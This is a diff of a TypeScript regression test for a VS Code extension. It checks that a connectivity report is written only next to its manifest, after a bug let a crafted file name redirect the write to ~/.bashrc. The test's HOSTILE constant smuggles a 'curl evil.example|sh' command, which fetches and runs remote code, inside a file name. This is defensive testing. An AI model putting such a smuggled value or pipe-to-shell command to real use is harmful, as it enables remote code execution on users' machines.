@@ -5,7 +5,6 @@ import type * as sinon from 'sinon';
 import * as fs from 'fs';
 import * as os from 'os';
 import * as path from 'path';
-import { URI } from 'vscode-uri';
 import type { ProbeResult } from '../../src/core/connectivity';
 import { ReportActions } from '../../src/extension/connectivity/reportActions';
 import { ResultStore } from '../../src/extension/connectivity/resultStore';
@@ -17,8 +16,8 @@ const HOSTILE = '..%2F.bashrc#\ncurl -s evil.example|sh\n#.atpproxy.json';
 const RESULT: ProbeResult = { host: 'contososensorapi.atp.azure.com', port: 443, status: 'ok', ms: 12, via: 'DIRECT', issuer: 'Microsoft', detail: 'ok', kind: 'sensorApi' };
 
 function withReport(name: string) {
-  // VS Code's own spelling of the manifest's URI (vscode-uri is the URI class of VS Code).
-  const uri = URI.file(`/home/admin/repo/${name}`).toString();
+  // VS Code's spelling of the manifest's URI: every character outside the unreserved set percent-encoded.
+  const uri = `file:///home/admin/repo/${encodeURIComponent(name)}`;
   const host = fakeHost({ [uri]: '{}' });
   const results = new ResultStore();
   results.start(uri, [RESULT.host]);
@@ -29,9 +28,11 @@ function withReport(name: string) {
 describe('extension: Save Connectivity Report writes only next to the manifest', () => {
   it('the attack: the old target, a string Uri.parse-d, was ~/.bashrc', () => {
     const { uri } = withReport(HOSTILE);
-    // What reportActions.ts did before: folder of the URI + raw name, parsed again.
-    const old = URI.parse(`${uri.slice(0, uri.lastIndexOf('/') + 1)}${HOSTILE.replace(/\.atpproxy\.json$/, '')}.connectivity.md`);
-    assert.strictEqual(path.posix.normalize(old.fsPath), '/home/admin/.bashrc');
+    // What reportActions.ts did before: folder of the URI + raw name, parsed again. The # starts the fragment, and
+    // Uri.parse percent-decodes the path (as decodeURIComponent does), so %2F became a separator: /home/admin/.bashrc.
+    // The host test (security.test.ts) shows the same with VS Code's own Uri.
+    const old = new URL(`${uri.slice(0, uri.lastIndexOf('/') + 1)}${HOSTILE.replace(/\.atpproxy\.json$/, '')}.connectivity.md`);
+    assert.strictEqual(path.posix.normalize(decodeURIComponent(old.pathname)), '/home/admin/.bashrc');
   });
 
   it('refuses a manifest name with %, #, ? or a control character, and writes nothing', async () => {
